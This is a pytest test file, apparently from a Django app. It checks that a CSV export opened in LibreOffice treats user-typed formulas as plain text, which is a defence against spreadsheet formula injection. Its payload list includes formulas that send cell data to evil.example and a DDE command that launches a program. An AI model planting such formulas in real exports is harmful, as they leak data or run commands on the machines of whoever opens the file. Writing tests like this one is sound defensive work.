"""Promise I10: a spreadsheet that opens our table works out nothing that is typed."""

import csv
import subprocess
from io import StringIO
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.test import Client

from tests.attacks.conftest import Case
from tests.attacks.find_libreoffice import PACKAGE, install, libreoffice
from tests.attacks.payloads.formulas import PREFIXES
from tests.intake import canaries
from tests.intake.builders import build_request
from tests.intake.staff import LIST, colleague
from tests.signing_in import sign_in

# What would ask another site, start a program, or just be worked out.
FORMULAS = [
    "1+1",
    'HYPERLINK("http://evil.example/?a="&A1,"Press")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
]
# Commas between, quotes around, UTF-8: as a spreadsheet opens our file by itself.
AS_TABLE = "CSV:44,34,76,1"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


@pytest.fixture(scope="module")
def program() -> str:
    if not libreoffice():
        install()
    program = libreoffice()
    assert program, f"This test needs LibreOffice: install {PACKAGE} of Debian."
    return program


def opened(program: str, folder: Path, text: str) -> ElementTree.Element:
    """Return the table as LibreOffice has it once it has opened the file."""
    file = folder / "table.csv"
    file.write_text(text, newline="")
    subprocess.run(
        [
            *[program, f"-env:UserInstallation=file://{folder}/profile", "--headless"],
            *[f"--infilter={AS_TABLE}", "--convert-to", "fods", "--outdir"],
            *[str(folder), str(file)],
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return ElementTree.parse(folder / "table.fods").getroot()  # noqa: S314 (our own)


def formulas(table: ElementTree.Element) -> list[str]:
    cells = table.iter(f"{TABLE}table-cell")
    found = [cell.get(f"{TABLE}formula") for cell in cells]
    return [formula for formula in found if formula]


def kinds(table: ElementTree.Element) -> set[str | None]:
    return {
        cell.get(f"{OFFICE}value-type")
        for cell in table.iter(f"{TABLE}table-cell")
        if cell.find(f"{TEXT}p") is not None
    }


def test_a_formula_is_seen_where_there_is_one(program: str, tmp_path: Path) -> None:
    """So that none in the test below is none, and not a count that counts nothing."""
    table = opened(program, tmp_path, '"Name"\r\n"=1+1"\r\n"=HYPERLINK(""a"")"\r\n')

    assert len(formulas(table)) == 2


@pytest.mark.django_db
def test_what_is_typed_is_text_in_a_spreadsheet(
    case: Case, client: Client, program: str, tmp_path: Path
) -> None:
    sign_in(client, colleague("Owner"))
    typed = [
        f"{prefix}{formula}" for prefix in PREFIXES.values() for formula in FORMULAS
    ]
    for each in typed:
        answers = dict.fromkeys(canaries.TYPED, each)
        build_request(**canaries.STORED | answers, phone_e164="+13125550142")
    misread = ["77E-234", "MAR-234"]  # a number and a day, to a spreadsheet
    for reference in misread:
        build_request(reference=reference)

    with case("I10", "opened by LibreOffice", cases=len(typed)):
        form = {"reason": "For the yearly report", "has_answers": "on"}
        text = client.post(f"{LIST}export/", form).getvalue().decode()
        table = opened(program, tmp_path, text)
        assert len(list(table.iter(f"{TABLE}table-row"))) >= len(typed)
        assert formulas(table) == []
        assert kinds(table) == {"string", "date"}  # the days are our own
        rows = csv.reader(
            StringIO(text.removeprefix("\ufeff"), newline=""), strict=True
        )
        cells = {cell for row in rows for cell in row}
        assert {f"'{each}" for each in [*typed, *misread]} <= cells
